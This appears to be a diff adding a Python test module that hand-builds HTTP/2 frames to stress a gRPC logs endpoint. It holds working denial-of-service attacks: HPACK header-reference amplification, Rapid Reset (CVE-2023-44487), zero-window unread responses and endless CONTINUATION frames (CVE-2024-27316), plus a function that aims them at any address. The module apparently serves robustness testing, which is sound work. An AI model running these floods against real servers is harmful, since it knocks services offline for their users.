@@ -1,0 +1,119 @@
+"""HTTP/2 as no gRPC client speaks it: frames made by hand (RFC 9113), with header blocks made by hand (RFC 7541).
+
+Each attack is one connection without a token, from its begin until so many bytes are sent or the server closes it.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import socket
+import struct
+import threading
+from collections.abc import Callable, Iterator
+
+DATA, HEADERS, RST_STREAM, SETTINGS, CONTINUATION = 0, 1, 3, 4, 9
+END_STREAM, END_HEADERS = 1, 4
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+LOGS = b"/opentelemetry.proto.collector.logs.v1.LogsService/Export"
+NEWEST = b"\xbe"
+"""A reference to the newest header of the table (RFC 7541, 2.3.3)."""
+BURST = 50
+"""Requests that are sent at once."""
+SECONDS = 30.0
+"""After which a server that reads nothing more has stopped the attack."""
+
+Attack = Callable[[socket.socket], Iterator[bytes]]
+"""What is sent after the preface, piece by piece, without an end."""
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload
+
+
+def settings(**values: int) -> bytes:
+    """By their numbers, as ``_4`` for the initial window (RFC 9113, 6.5.2)."""
+    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", int(key[1:]), value) for key, value in values.items()))
+
+
+def literal(name: bytes, value: bytes, keep: bool = False) -> bytes:
+    """A header as it is; ``keep``: in the table, too."""
+    return bytes((0x40 if keep else 0,)) + _text(name) + _text(value)
+
+
+def request(path: bytes = LOGS) -> bytes:
+    """The headers of a gRPC call."""
+    given = {b":method": b"POST", b":scheme": b"http", b":path": path, b":authority": b"a"}
+    given |= {b"content-type": b"application/grpc", b"te": b"trailers"}
+    return b"".join(literal(name, value) for name, value in given.items())
+
+
+def _text(value: bytes) -> bytes:
+    """A text, with its length in 7 bits and more (RFC 7541, 5.1)."""
+    if len(value) < 127:
+        return bytes((len(value),)) + value
+    size, rest = bytearray((127,)), len(value) - 127
+    while rest >= 128:
+        size.append(rest % 128 + 128)
+        rest //= 128
+    return bytes((*size, rest)) + value
+
+
+def _requests(block: bytes, after: Callable[[int], bytes] = lambda _: b"", flags: int = END_STREAM) -> Iterator[bytes]:
+    number = 3
+    while True:
+        streams = range(number, number + 2 * BURST, 2)
+        yield b"".join(frame(HEADERS, END_HEADERS | flags, stream, block) + after(stream) for stream in streams)
+        number += 2 * BURST
+
+
+def header_references(client: socket.socket) -> Iterator[bytes]:
+    """Requests of 4 kB that refer 4,000 times to one header of the table: 15 MB each."""
+    _read_in_a_thread(client)
+    kept = request() + literal(b"x", b"v" * 3_800, keep=True)
+    yield settings() + frame(HEADERS, END_HEADERS | END_STREAM, 1, kept)
+    yield from _requests(request() + NEWEST * 4_000)
+
+
+def rapid_reset(client: socket.socket) -> Iterator[bytes]:
+    """Requests that are reset at once (CVE-2023-44487)."""
+    _read_in_a_thread(client)
+    yield settings()
+    yield from _requests(request(), lambda stream: frame(RST_STREAM, 0, stream, b"\0\0\0\x08"), flags=0)
+
+
+def unread_answers(_: socket.socket) -> Iterator[bytes]:
+    """Requests whose answers find no window, and nobody who reads."""
+    yield settings(_4=0)
+    yield from _requests(request(b"/x/" + b"y" * 200))
+
+
+def continuations(client: socket.socket) -> Iterator[bytes]:
+    """Headers of one request that never end (CVE-2024-27316 and others)."""
+    _read_in_a_thread(client)
+    yield settings() + frame(HEADERS, 0, 1, request())
+    block = b"".join(literal(b"k%d" % index, b"v" * 50) for index in range(250))
+    while True:
+        yield frame(CONTINUATION, 0, 1, block)
+
+
+def _read_in_a_thread(client: socket.socket) -> None:
+    def read() -> None:
+        with contextlib.suppress(OSError):
+            while client.recv(1 << 16):
+                pass
+
+    threading.Thread(target=read, daemon=True).start()
+
+
+def attack(address: str, kind: Attack, size: int) -> int:
+    """Send so many bytes, fewer if the server closes the connection or stops to read; returns how many."""
+    host, _, port = address.rpartition(":")
+    sent = 0
+    with contextlib.suppress(OSError), socket.create_connection((host, int(port)), SECONDS) as client:
+        client.sendall(PREFACE)
+        for piece in kind(client):
+            if sent >= size:
+                break
+            client.sendall(piece)
+            sent += len(piece)
+    return sent
